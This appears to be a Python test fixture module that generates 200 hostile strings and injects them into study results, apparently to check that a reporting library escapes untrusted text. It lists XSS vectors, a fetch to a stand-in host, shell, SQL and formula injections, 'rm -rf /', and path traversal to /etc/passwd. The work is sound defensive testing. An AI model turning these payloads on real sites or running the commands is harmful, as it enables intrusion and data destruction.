"""Two hundred names that try to be more than names, and results in which every text is some of them."""

from __future__ import annotations

import dataclasses
from collections.abc import Callable, Mapping
from dataclasses import replace
from itertools import chain, product
from typing import Any

from paceline.records.finding import Finding, Note
from paceline.records.rank_trace import LEDGER_KINDS
from paceline.records.results import StudyResults
from paceline.reporting.wording.phrases import LAW_NAMES

_OURS = frozenset((*LEDGER_KINDS, "servers", *LAW_NAMES, "serial", "contention", "coherency"))
"""Names of kinds, laws and their parameters: they come from no file."""
_RUN = "document.documentElement.dataset.owned=1"
_ASK = "fetch('http://127.0.0.1:9/owned')"
_PAYLOADS = (_RUN, "alert(1)", _ASK, "window.owned=1")

# `{}` is where a payload goes.
_SCRIPTS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</ScRiPt ><sCrIpT type=module>{}</sCrIpT>",
    "<!--<script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "</title></style></textarea></noscript><script>{}</script>",
    '"/><script>{}</script>',
    "'/><script>{}</script>",
    "<script\n>{}<\x00/script>",
    "</script\x0b><script>{}//",
    '<script src="data:text/javascript,{}"></script>',
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "＜script＞{}＜/script＞",
)
_ELEMENTS = (
    '<img src=x onerror="{}">',
    '"><img src=x onerror="{}">',
    "'><img src='http://127.0.0.1:9/owned' onload='{}'>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    '<svg><a xlink:href="javascript:{}"><text y=20>click</text></a></svg>',
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src onerror={}>",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    "<iframe src=javascript:{}></iframe>",
    "<object data=javascript:{}></object><embed src=javascript:{}>",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    '<form action="javascript:{}"><button>go</button></form>',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<link rel=stylesheet href="http://127.0.0.1:9/owned.css" onerror="{}">',
    '<base href="http://127.0.0.1:9/"><a href="owned">{}</a>',
    '" onmouseover="{}" autofocus onfocus="{}" x="',
    "' style=animation-name:x onanimationstart='{}'",
)
_PSEUDO = (  # what Plotly takes for its own small HTML, and what templates take for theirs
    "<a href='javascript:{}'>figure</a>",
    '<a href="java&#10;script:{}" target="_blank">figure</a>',
    "<a href='data:text/html,<script>{}</script>'>figure</a>",
    '<a href="http://127.0.0.1:9/owned" style="font-size:900px">{}</a>',
    "<b>bold</b><br><sup>1</sup><span style='background:url(http://127.0.0.1:9/owned)'>{}</span>",
    "%{{customdata[0]}} %{{meta.constructor.constructor('{}')()}} %{{x}}<extra></extra>",
    "${{{}}} `${{{}}}` {{{{{}}}}} <%= {} %> #{{{}}} $title $$ $policy",
    "javascript:{}//",
    '=HYPERLINK("http://127.0.0.1:9/owned?"&A1,"{}")',
    "@import url(http://127.0.0.1:9/owned); }} * {{ background: url(javascript:{}) }}",
)
_PLAIN = (
    "\x00\x01\x08\x0b\x0c\x0e\x1f\x7f\x80\x9f",
    "line\u2028separator\u2029paragraph\x85next",
    "\u202eright to left \u2066isolated\u2069 \u200fmark",
    "ﷺ עברית العربية ‮",
    "zero\u200bwidth\u200d\ufeffjoiner\u2060",
    "Z͑ͫa̴l̷g̸o̵" + "\u0301" * 60,
    "x" * 2000,
    "word " * 300,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U000e0041 \ufffe\uffff",
    "lone \udcff surrogate \ud800",
    "\x1b[31mred\x1b]8;;file:///etc/passwd\x07link\x1b]8;;\x07 \x9b2J",
    "[bold red]markup[/] [link=file:///etc/passwd]x[/link] :smile:",
    "../../../../etc/passwd%00.html",
    "C:\\con\\nul\\..\\aux",
    "'; DROP TABLE runs; --",
    "`id` $(id) ${HOME} ; rm -rf / | cat & \n\r",
    '{"__proto__": {"owned": 1}}',
    "__proto__",
    "constructor",
    "toString",
    "null",
    "undefined",
    "NaN",
    "-Infinity",
    "1e309",
    "0x41",
    "+1-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "var(--ink)",
    "%s %n %x %d {0} {}",
    "&#x3c;b&#x3e; &amp;lt; &nbsp;",
    "a,b;c\t\"d\"\r\n'e'",
    "\\",
    '"',
    "'",
    "<",
    ">",
    "&",
    "<br><br><br>",
    "<extra></extra>",
    "$E=mc^2$",
    "http://127.0.0.1:9/owned",
    "//127.0.0.1:9/owned",
    "file:///etc/passwd",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:null/owned",
)


def _vectors() -> tuple[str, ...]:
    """All of them, each once: every frame with the first payload, then with the next."""
    framed = (frame.replace("{{", "\0").replace("}}", "\1") for frame in chain(_SCRIPTS, _ELEMENTS, _PSEUDO))
    texts = (
        frame.replace("{}", payload).replace("\0", "{").replace("\1", "}")
        for payload, frame in product(_PAYLOADS, tuple(framed))
    )
    return tuple(dict.fromkeys((*_PLAIN, *texts)))[:200]


HOSTILE = _vectors()
assert len(HOSTILE) == 200


def hostile_results(results: StudyResults, text: str) -> StudyResults:
    """The same results with `text` in front of every string, so that what was different still is.

    Names of settings are ours, too: a study file with others is refused.
    """
    made = filled(results, in_front(text))
    vary = dict(zip(results.study.vary, made.study.vary.values(), strict=True))
    return replace(made, study=replace(made.study, vary=vary))


def in_front(text: str) -> Callable[[str], str]:
    """Puts a text in front of whatever is not ours."""
    return lambda own: own if own in _OURS else f"{text} {own}"


def filled(part: Any, change: Callable[[str], str], *, keep: frozenset[str] = frozenset()) -> Any:
    """A record with every string in it changed, keys included, at every depth; but for fields named in `keep`."""
    if isinstance(part, str):
        return change(part)
    if isinstance(part, tuple):
        return tuple(filled(item, change, keep=keep) for item in part)
    if isinstance(part, Mapping):
        return {filled(key, change): filled(value, change, keep=keep) for key, value in part.items()}
    if isinstance(part, (Finding, Note)):  # its code and the names of its values are ours
        values = {name: filled(value, change, keep=keep) for name, value in part.values.items()}
        return replace(part, values=values) if isinstance(part, Note) else _finding(part, values, change)
    if dataclasses.is_dataclass(part) and not isinstance(part, type):
        names = [field.name for field in dataclasses.fields(part) if field.init and field.name not in keep]
        return replace(part, **{name: filled(getattr(part, name), change, keep=keep) for name in names})
    return part


def _finding(finding: Finding, values: Mapping[str, Any], change: Callable[[str], str]) -> Finding:
    points = tuple(map(change, finding.points))
    return replace(finding, severity=change(finding.severity), values=values, points=points)
